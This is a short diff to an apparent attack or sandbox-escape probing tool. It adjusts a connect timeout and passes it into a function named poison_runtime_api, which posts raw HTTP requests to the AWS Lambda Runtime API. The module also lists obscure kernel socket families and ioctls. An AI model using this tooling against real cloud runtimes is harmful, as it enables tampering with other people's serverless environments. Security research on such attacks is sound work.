@@ -9,7 +9,8 @@ import time
 
 from attacks.kernel import outcome, syscall, tried
 
-CONNECT_S = 0.7
+#: How long a greeting is waited for: outside, where it must come, as long as a busy machine may take.
+CONNECT_S = 0.7 if "AWS_LAMBDA_RUNTIME_API" in os.environ else 5
 AF_VSOCK, AF_ALG, AF_RDS, AF_TIPC, AF_XDP, AF_KEY, AF_CAN, AF_BLUETOOTH = 40, 38, 21, 30, 44, 15, 29, 31
 SIOCSIFFLAGS, SIOCSIFADDR = 0x8914, 0x8916
 
@@ -166,7 +167,7 @@ def poison_runtime_api(target):
     host, port = (target.get("runtime_api") or os.environ["AWS_LAMBDA_RUNTIME_API"]).split(":")
 
     def post(path, body=b"{}"):
-        with socket.create_connection((host, int(port)), 2) as connection:
+        with socket.create_connection((host, int(port)), CONNECT_S) as connection:
             connection.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
             status = int(connection.recv(4096).split()[1])
             return status if status < 300 else None
